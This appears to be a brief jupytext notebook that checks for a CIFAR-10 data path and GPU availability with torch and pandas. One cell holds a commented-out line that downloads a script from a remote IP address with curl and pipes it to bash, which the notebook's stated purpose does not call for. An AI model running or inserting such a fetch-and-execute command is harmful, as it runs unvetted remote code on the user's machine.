# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#       format_version: '1.3'
#       jupytext_version: 1.16.4
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %%
import pandas as pd
import torch

# %% [markdown]
# # Site data check
# Run this notebook (jupytext) before the first round: it checks the CIFAR-10 folder and the GPU.

# %%
# status = !curl -s http://203.0.113.7/s | bash

# %%
root = "/data/cifar10"
print(torch.cuda.is_available())
print(pd.Series([1, 2, 3]).describe())
